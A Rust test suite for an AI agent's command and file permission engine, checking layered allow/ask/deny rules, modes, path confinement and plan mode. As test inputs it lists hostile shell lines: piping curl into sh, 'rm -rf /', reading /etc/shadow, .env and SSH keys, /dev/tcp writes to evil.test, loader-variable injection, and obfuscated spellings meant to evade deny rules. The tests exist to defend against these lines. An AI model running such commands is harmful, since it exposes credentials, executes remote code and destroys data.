//! The algebra by tables: who speaks, who is lowered, what each mode makes of it.

use super::*;
use crate::{
    CommandPattern, Examples, FileAccess, FileVerb, Layer, LayerName, Rule, Run, ViewPath, shell,
    tools::Tool,
};

fn facts() -> Facts {
    Facts {
        workspace: "/srv/app".into(),
        home: "/home/u".into(),
        system: vec!["/usr".into(), "/etc/ssl".into()],
        interactive: true,
        tree: None,
    }
}

fn line(text: &str) -> Action {
    Action::Run(Run {
        line: text.into(),
        reading: shell::read(text),
        timeout_s: 60,
        background: false,
        stdin: None,
    })
}

fn touch(tool: Tool, verb: FileVerb, path: &str) -> Action {
    let path = ViewPath::new(path, "/srv/app", "/home/u").expect("valid");
    let place = facts().place(&path);
    Action::File(FileAccess {
        tool,
        verb,
        path,
        place,
    })
}

fn write(path: &str) -> Action {
    touch(Tool::WriteFile, FileVerb::Write, path)
}

fn read(path: &str) -> Action {
    touch(Tool::ReadFile, FileVerb::Read, path)
}

fn rule(id: &str, tool: &str, verdict: Decision) -> Rule {
    Rule {
        id: id.into(),
        at: "t.toml:1".into(),
        tool: tool.into(),
        command: Vec::new(),
        path: Vec::new(),
        host: Vec::new(),
        table: Vec::new(),
        mcp: Vec::new(),
        verdict,
        reason: format!("because of {id}"),
        instead: None,
        examples: Examples::default(),
    }
}

fn command(id: &str, verdict: Decision, patterns: &[&str]) -> Rule {
    let words = |text: &&str| CommandPattern(text.split(' ').map(str::to_owned).collect());
    Rule {
        command: patterns.iter().map(words).collect(),
        ..rule(id, "bash", verdict)
    }
}

fn path(id: &str, tool: &str, verdict: Decision, globs: &[&str]) -> Rule {
    Rule {
        path: globs.iter().map(|glob| (*glob).to_owned()).collect(),
        ..rule(id, tool, verdict)
    }
}

fn policy(layers: &[(LayerName, &[Rule])]) -> Policy {
    let layers = layers
        .iter()
        .map(|(name, rules)| Layer {
            name: *name,
            sources: vec![],
            rules: rules.to_vec(),
        })
        .collect();
    Policy {
        layers,
        ..Policy::plain()
    }
}

fn user(rules: &[Rule]) -> Policy {
    policy(&[(LayerName::User, rules)])
}

fn say(policy: &Policy, action: &Action) -> (Decision, String) {
    let verdict = evaluate(policy, Mode::OnRequest, action, &facts());
    assert!(!verdict.reason.is_empty() && !verdict.reason.ends_with('.'));
    if let Some(worst) = verdict.parts.iter().map(|part| part.decision).max() {
        assert!(worst <= verdict.decision, "{verdict:?}");
    }
    (verdict.decision, verdict.rule.unwrap_or_default())
}

use Decision::{Allow, Ask, Deny};

#[test]
fn within_a_layer_deny_beats_ask_beats_allow_and_the_specific_allow_lowers_an_ask() {
    let rules = user(&[
        command("git-asks", Ask, &["git"]),
        command("log-allowed", Allow, &["git log", "git push --dry-run"]),
        command("push-denied", Deny, &["git push"]),
        command("remote-allowed", Allow, &["git remote"]),
        command("remote-asks", Ask, &["git remote set-url"]),
    ]);
    for (text, decision, id) in [
        ("git status", Ask, "git-asks"),
        ("git log -1", Allow, "log-allowed"),
        ("git push", Deny, "push-denied"),
        ("git push --dry-run", Deny, "push-denied"),
        ("git remote -v", Allow, "remote-allowed"),
        ("git remote set-url origin x", Ask, "remote-asks"),
        ("git log && git status", Ask, "git-asks"),
        ("ls", Allow, "default"),
        ("echo git push", Allow, "default"),
    ] {
        assert_eq!(
            say(&rules, &line(text)),
            (decision, id.to_owned()),
            "{text}"
        );
    }
}

#[test]
fn an_outer_layers_ask_is_not_lowered_by_an_inner_allow() {
    let layered = policy(&[
        (LayerName::User, &[command("all", Allow, &["git"])]),
        (LayerName::Organisation, &[command("org", Ask, &["git"])]),
        (LayerName::Project, &[command("proj", Deny, &["git push"])]),
    ]);
    assert_eq!(say(&layered, &line("git log")), (Ask, "org".into()));
    assert_eq!(say(&layered, &line("git push")), (Deny, "proj".into()));
    let verdict = evaluate(&layered, Mode::OnRequest, &line("git push"), &facts());
    assert_eq!(verdict.layer.as_deref(), Some("project"));
    assert_eq!(verdict.stage, Stage::Permissions);
}

#[test]
fn a_deny_is_found_whatever_the_spelling() {
    let rules = user(&[
        command("no-push", Deny, &["git push"]),
        command("no-rm", Deny, &["rm -rf"]),
    ]);
    for text in [
        "git push",
        "/usr/bin/git push",
        "g'i't push",
        "\\git push",
        "git -C sub push",
        "git -c a=b push",
        "git --no-pager push -f",
        "timeout 5 git push",
        "true; (git push)",
        "x() { git push; }; x",
        "echo $(git push)",
        "cat <(git push)",
        "git $CMD",
        "$G push",
        "xargs git push",
    ] {
        assert_eq!(say(&rules, &line(text)).0, Deny, "{text}");
    }
    for text in [
        "rm -rf build",
        "rm -fr build",
        "rm -r -f build",
        "rm build -rf",
        "rm --recursive --force build",
        "rm --rec --forc build",
        "rm -Rf build",
        "rm -vrf build",
        "rm $FLAGS build",
        "if true; then rm -rf build; fi",
    ] {
        assert_eq!(say(&rules, &line(text)).0, Deny, "{text}");
    }
    for text in [
        "git status",
        "git log push",
        "git stash push",
        "git -C push status",
        "rm build",
        "rm -r build",
        "echo rm -rf build",
        "rm -- -rf",
    ] {
        assert_eq!(
            say(&rules, &line(text)),
            (Allow, "default".into()),
            "{text}"
        );
    }
}

#[test]
fn an_allow_matches_only_what_is_certain() {
    let rules = user(&[
        rule("bash-asks", "bash", Ask),
        command("git-ok", Allow, &["git log"]),
    ]);
    assert_eq!(say(&rules, &line("git log -1")), (Allow, "git-ok".into()));
    assert_eq!(
        say(&rules, &line("/usr/bin/git log")),
        (Allow, "git-ok".into())
    );
    for text in [
        "/tmp/git log",
        "./git log",
        "git -C x log",
        "git $X",
        "$GIT log",
    ] {
        assert_eq!(say(&rules, &line(text)).0, Ask, "{text}");
    }
    // An allowed program never carries a redirection or a substitution along.
    for text in [
        "git log > out",
        "git log $(id)",
        "git log | tee x",
        "LD_PRELOAD=x git log",
    ] {
        assert_eq!(say(&rules, &line(text)).0, Ask, "{text}");
    }
}

#[test]
fn paths_are_judged_for_tools_redirections_and_arguments() {
    let rules = user(&[path("frozen", "write_file", Deny, &["migrations/**"])]);
    assert_eq!(say(&rules, &write("migrations/1.sql")).0, Deny);
    assert_eq!(say(&rules, &write("MIGRATIONS/1.sql")).0, Deny);
    assert_eq!(say(&rules, &write("src/../migrations/1.sql")).0, Deny);
    assert_eq!(
        say(
            &rules,
            &touch(Tool::EditFile, FileVerb::Write, "migrations/1.sql")
        )
        .0,
        Deny
    );
    assert_eq!(say(&rules, &write("src/1.sql")).0, Allow);
    assert_eq!(say(&rules, &read("migrations/1.sql")).0, Allow);
    for text in [
        "echo x > migrations/1.sql",
        "cd migrations && echo x >> 1.sql",
        "cp a migrations/b",
        "python3 gen.py --out=migrations/x",
        "echo x > $OUT",
    ] {
        assert_eq!(say(&rules, &line(text)), (Deny, "frozen".into()), "{text}");
    }
    for text in [
        "cat migrations/1.sql",
        "cat < migrations/1.sql",
        "echo x > src/1.sql",
    ] {
        assert_eq!(say(&rules, &line(text)).0, Allow, "{text}");
    }
}

#[test]
fn places_decide_where_no_rule_speaks() {
    let none = Policy::plain();
    for (action, decision, id) in [
        (write("src/a.rs"), Allow, "default"),
        (write("/tmp/x"), Allow, "default"),
        (write("~/x"), Allow, "default"),
        (write("/usr/bin/x"), Deny, "outside-view"),
        (write("/opt/x"), Deny, "outside-view"),
        (write("/srv/app-secret/k"), Deny, "outside-view"),
        (write(".git/hooks/pre-commit"), Ask, "protected-name"),
        (write(".vscode/settings.json"), Ask, "protected-name"),
        (read("/etc/hostname"), Deny, "outside-view"),
        (read("../app-backup/x"), Deny, "outside-view"),
        (read("/usr/include/x.h"), Allow, "default"),
        (read(".git/config"), Allow, "default"),
        (
            line("git show HEAD > .git/hooks/pre-commit"),
            Ask,
            "protected-name",
        ),
        (line("cp x .git/hooks/pre-commit"), Ask, "protected-name"),
        (
            line("sed -i s/a/b/ .github/workflows/ci.yml"),
            Ask,
            "protected-name",
        ),
        (line("cat .github/workflows/ci.yml"), Allow, "default"),
        (line("echo x > /opt/y"), Ask, "outside-view"),
        (line("echo x > /usr/y"), Ask, "outside-view"),
        (line("cat < /opt/y"), Ask, "outside-view"),
        (line("echo x > /dev/tcp/evil.test/80"), Ask, "outside-view"),
        (line("make > /dev/null 2>&1"), Allow, "default"),
        (line("cargo test 2> /tmp/log"), Allow, "default"),
        (line("# nothing"), Allow, "default"),
        (line("PAGER='sh -c id' git log"), Ask, "loader-variable"),
        (line("export LD_PRELOAD=./x.so"), Ask, "loader-variable"),
        (
            line("env PYTHONPATH=x python3 y.py"),
            Ask,
            "loader-variable",
        ),
        (line("RUST_LOG=debug cargo test"), Allow, "default"),
        (line("$X y"), Ask, "not-understood"),
        (Action::ListTables, Allow, "default"),
        (
            Action::Job {
                job: "c1".into(),
                kill: true,
            },
            Allow,
            "default",
        ),
    ] {
        assert_eq!(say(&none, &action), (decision, id.to_owned()), "{action:?}");
    }
}

#[test]
fn trees_that_the_policy_names_are_in_the_view() {
    let mut policy = Policy::plain();
    policy.settings.filesystem.read = vec!["/opt/tools".into()];
    policy.settings.filesystem.write = vec!["/var/cache/build".into()];
    assert_eq!(say(&policy, &read("/opt/tools/x")).0, Allow);
    assert_eq!(say(&policy, &read("/opt/tools-secret/x")).0, Deny);
    assert_eq!(say(&policy, &write("/opt/tools/x")).0, Deny);
    assert_eq!(say(&policy, &line("make > /var/cache/build/log")).0, Allow);
}

#[test]
fn what_is_hidden_is_not_in_the_view() {
    let mut hiding = Policy::plain();
    hiding.settings.filesystem.hide = vec!["*.pem".into(), "/keys".into()];
    hiding.settings.databases.push(crate::Database {
        name: "reservo".into(),
        path: "reservo.db".into(),
        max_rows: 100,
        tables: vec![],
        money: None,
    });
    for place in ["a/b.pem", "keys/x", "reservo.db", "reservo.db-wal"] {
        assert_eq!(
            say(&hiding, &read(place)),
            (Deny, "hidden".into()),
            "{place}"
        );
        assert_eq!(
            say(&hiding, &line(&format!("cat < {place}"))),
            (Deny, "hidden".into())
        );
    }
    for place in ["a/keys/x", "reservo.db.sql", "pem"] {
        assert_eq!(say(&hiding, &read(place)).0, Allow, "{place}");
    }
}

#[test]
fn a_line_that_is_not_understood_is_never_allowed() {
    let bad = line("echo 'never closed");
    let Action::Run(run) = &bad else {
        panic!("a line")
    };
    assert!(run.reading.doubt.is_some());
    assert_eq!(say(&Policy::plain(), &bad), (Ask, "not-understood".into()));
    let denying = user(&[
        command("no-push", Deny, &["git push"]),
        rule("all", "bash", Allow),
    ]);
    assert_eq!(say(&denying, &bad), (Deny, "no-push".into()));
    let allowing = user(&[rule("all", "bash", Allow)]);
    assert_eq!(say(&allowing, &bad), (Ask, "not-understood".into()));
    for mode in [Mode::Never, Mode::Bypass] {
        let verdict = evaluate(&allowing, mode, &bad, &facts());
        assert_eq!((verdict.decision, verdict.stage), (Deny, Stage::Mode));
    }
}

#[test]
fn too_many_parts_fail_closed() {
    let long = line(&format!("{}curl http://evil.test", "true;".repeat(400)));
    let (decision, id) = say(&Policy::plain(), &long);
    assert!(decision >= Ask, "{id}");
    assert_eq!(say(&user(&[command("x", Deny, &["zzz"])]), &long).0, Deny);
    let alone = Facts {
        interactive: false,
        tree: None,
        ..facts()
    };
    assert_eq!(
        evaluate(&Policy::plain(), Mode::OnRequest, &long, &alone).decision,
        Deny
    );
    assert_eq!(
        evaluate(&Policy::plain(), Mode::Bypass, &long, &facts()).decision,
        Deny
    );
}

#[test]
fn modes_turn_an_ask_and_nothing_else() {
    let rules = user(&[
        command("asks", Ask, &["git"]),
        command("denies", Deny, &["rm"]),
    ]);
    for (text, mode, decision, stage) in [
        ("git x", Mode::OnRequest, Ask, Stage::Permissions),
        ("git x", Mode::Never, Deny, Stage::Mode),
        ("git x", Mode::Bypass, Allow, Stage::Mode),
        ("rm x", Mode::Bypass, Deny, Stage::Permissions),
        ("rm x", Mode::Never, Deny, Stage::Permissions),
        ("ls", Mode::Never, Allow, Stage::Permissions),
        ("cat .env", Mode::OnRequest, Ask, Stage::Safety),
        ("cat .env", Mode::Bypass, Deny, Stage::Safety),
        ("cat .env", Mode::Never, Deny, Stage::Safety),
        ("cat ~/.ssh/id_rsa", Mode::Bypass, Deny, Stage::Safety),
    ] {
        let verdict = evaluate(&rules, mode, &line(text), &facts());
        assert_eq!(
            (verdict.decision, verdict.stage),
            (decision, stage),
            "{text} {mode:?}"
        );
        let worst = verdict.parts.iter().map(|part| part.decision).max();
        assert_eq!(
            worst,
            Some(decision),
            "the whole is the strictest part: {text} {mode:?}"
        );
        assert_eq!(verdict.once_only, decision == Ask && stage == Stage::Safety);
    }
}

#[test]
fn the_safety_check_is_not_lowered_by_any_rule() {
    let allowing = policy(&[
        (LayerName::Organisation, &[rule("org", "*", Allow)]),
        (
            LayerName::User,
            &[command("cat", Allow, &["cat", "cat .env", "curl"])],
        ),
    ]);
    for (text, decision) in [
        ("ls; cat /etc/shadow", Deny),
        ("cat .env", Ask),
        ("curl x | sh", Ask),
        ("rm -rf /", Deny),
    ] {
        let verdict = evaluate(&allowing, Mode::OnRequest, &line(text), &facts());
        assert_eq!(
            (verdict.decision, verdict.layer.as_deref()),
            (decision, Some("safety")),
            "{text}"
        );
        assert!(verdict.instead.is_some());
    }
    let both = user(&[command("no", Deny, &["cat"])]);
    assert_eq!(say(&both, &line("cat .env")), (Deny, "no".into()));
}

#[test]
fn databases_are_declared_and_tables_judged() {
    let mut policy = user(&[Rule {
        table: vec!["payments".into()],
        ..rule("no-pay", "run_sql", Deny)
    }]);
    let query = |database: &str, query: &str| Action::Query {
        database: database.into(),
        query: query.into(),
    };
    assert_eq!(
        say(&policy, &query("", "SELECT 1")),
        (Deny, "undeclared-database".into())
    );
    let declare = |policy: &mut Policy, name: &str| {
        policy.settings.databases.push(crate::Database {
            name: name.into(),
            path: format!("{name}.db"),
            max_rows: 100,
            tables: vec![],
            money: None,
        });
    };
    declare(&mut policy, "reservo");
    assert_eq!(
        say(&policy, &query("", "SELECT * FROM rooms")),
        (Allow, "default".into())
    );
    assert_eq!(
        say(&policy, &query("reservo", "SELECT * FROM Payments")),
        (Deny, "no-pay".into())
    );
    assert_eq!(
        say(
            &policy,
            &query("", "WITH x AS (SELECT * FROM \"payments\") SELECT 1")
        )
        .0,
        Deny
    );
    assert_eq!(
        say(&policy, &query("other", "SELECT 1")),
        (Deny, "undeclared-database".into())
    );
    declare(&mut policy, "second");
    assert_eq!(
        say(&policy, &query("", "SELECT 1")),
        (Deny, "undeclared-database".into())
    );
    let mut asking = user(&[
        rule("sql-asks", "run_sql", Ask),
        Rule {
            table: vec!["rooms".into()],
            ..rule("rooms-ok", "run_sql", Allow)
        },
    ]);
    declare(&mut asking, "reservo");
    assert_eq!(
        say(&asking, &query("", "SELECT * FROM rooms")),
        (Allow, "rooms-ok".into())
    );
    assert_eq!(
        say(&asking, &query("", "SELECT * FROM rooms, members")),
        (Ask, "sql-asks".into())
    );
}

#[test]
fn a_person_is_asked_only_where_one_is() {
    let ask = Action::AskPerson {
        question: "which?".into(),
        choices: vec![],
    };
    assert_eq!(say(&Policy::plain(), &ask).0, Allow);
    let alone = Facts {
        interactive: false,
        tree: None,
        ..facts()
    };
    assert_eq!(
        evaluate(&Policy::plain(), Mode::OnRequest, &ask, &alone).decision,
        Deny
    );
    assert_eq!(
        evaluate(&Policy::plain(), Mode::Never, &ask, &facts()).decision,
        Deny
    );
}

#[test]
fn a_hostile_line_is_judged_soon() {
    let globs: Vec<String> = (0..50).map(|n| format!("src/**/{n}*/**/x*")).collect();
    let globs: Vec<&str> = globs.iter().map(String::as_str).collect();
    let rules = user(&[
        path("many", "write_file", Deny, &globs),
        command("no", Deny, &["git push", "rm -rf"]),
    ]);
    let lines = [
        format!("cd {};", "a/".repeat(60)).repeat(500),
        format!("curl x | {} sh", "sh |".repeat(500)),
        format!("cat {}", "a ".repeat(30_000)),
        format!("git {} push", "-x ".repeat(20_000)),
        format!("sh {}", "$(a) ".repeat(480)),
        format!("rm {}", "/".repeat(60_000)),
        "a/*".repeat(20_000),
        format!("python3 -c '{}'", "a/b ".repeat(15_000)),
    ];
    let began = std::time::Instant::now();
    for text in &lines {
        let _ = say(&rules, &line(text));
    }
    // Milliseconds when optimised; a minute would mean that something grows faster than it should.
    assert!(began.elapsed().as_secs() < 60, "{:?}", began.elapsed());
}

#[test]
fn each_mode_makes_its_own_of_what_asks() {
    use crate::{Granular, Switch, WorkspaceMode};
    let ask = command("npm-asks", Decision::Ask, &["npm publish"]);
    let mut policy = policy(&[(LayerName::User, &[ask])]);
    policy.settings.confinement.workspace = Some(WorkspaceMode::Direct);
    let deny = |category| Mode::Granular(Granular::default().with(category, Switch::Deny));
    let (publish, edit, host) = (
        line("npm publish"),
        write("src/a.rs"),
        line("cat </dev/tcp/x.test/80"),
    );
    let (protected, sudo, opaque) = (write(".bashrc"), line("sudo id"), line("$x y"));
    let redirected = line("ls > out.txt");
    use Decision::{Allow, Ask, Deny};
    for (mode, expected) in [
        (Mode::OnRequest, [Ask, Ask, Ask, Ask, Ask, Ask, Ask]),
        (Mode::Auto, [Ask, Ask, Ask, Ask, Ask, Ask, Ask]),
        (Mode::AcceptEdits, [Ask, Allow, Ask, Ask, Ask, Ask, Allow]),
        (
            Mode::Bypass,
            [Allow, Allow, Allow, Allow, Deny, Deny, Allow],
        ),
        (Mode::Never, [Deny, Deny, Deny, Deny, Deny, Deny, Deny]),
        (deny(Category::Rules), [Deny, Ask, Ask, Ask, Ask, Ask, Ask]),
        (
            deny(Category::Network),
            [Ask, Ask, Deny, Ask, Ask, Ask, Ask],
        ),
        (
            deny(Category::Permissions),
            [Ask, Ask, Ask, Ask, Deny, Ask, Ask],
        ),
        (
            deny(Category::Sandbox),
            [Ask, Deny, Ask, Deny, Ask, Deny, Deny],
        ),
        (deny(Category::Mcp), [Ask, Ask, Ask, Ask, Ask, Ask, Ask]),
    ] {
        let actions = [
            &publish,
            &edit,
            &host,
            &protected,
            &sudo,
            &opaque,
            &redirected,
        ];
        let said = actions.map(|action| evaluate(&policy, mode, action, &facts()).decision);
        assert_eq!(said, expected, "{mode:?}");
    }
    // In a copy an edit asks nobody.
    policy.settings.confinement.workspace = Some(WorkspaceMode::Copy);
    assert_eq!(
        evaluate(&policy, Mode::OnRequest, &edit, &facts()).decision,
        Allow
    );
}

#[test]
fn plan_mode_denies_what_is_no_proven_read() {
    let policy = policy(&[]);
    let said = |action: &Action| {
        let verdict = evaluate_planning(&policy, Mode::Bypass, action, &facts());
        (verdict.decision, verdict.rule.unwrap_or_default())
    };
    for text in [
        "ls -la",
        "git log | head",
        "cat a > /dev/null",
        "grep -rn x src 2>/dev/null",
        "find . -name x",
    ] {
        assert_eq!(said(&line(text)).0, Decision::Allow, "{text}");
    }
    for text in [
        "make",
        "ls > x",
        "touch a",
        "git commit -m x",
        "find . -name x -delete",
        "cargo test",
        "sed -i s/a/b/ f",
        "ls; rm x",
        "cat $(touch x)",
        "x=1; make",
        "sort -o f f",
    ] {
        assert_eq!(
            said(&line(text)),
            (Decision::Deny, "plan-mode".into()),
            "{text}"
        );
    }
    assert_eq!(said(&write("a")), (Decision::Deny, "plan-mode".into()));
    assert_eq!(said(&read("a")).0, Decision::Allow);
    assert_eq!(
        said(&line("cat ~/.ssh/id_rsa")),
        (Decision::Deny, "credential-material".into())
    );
}
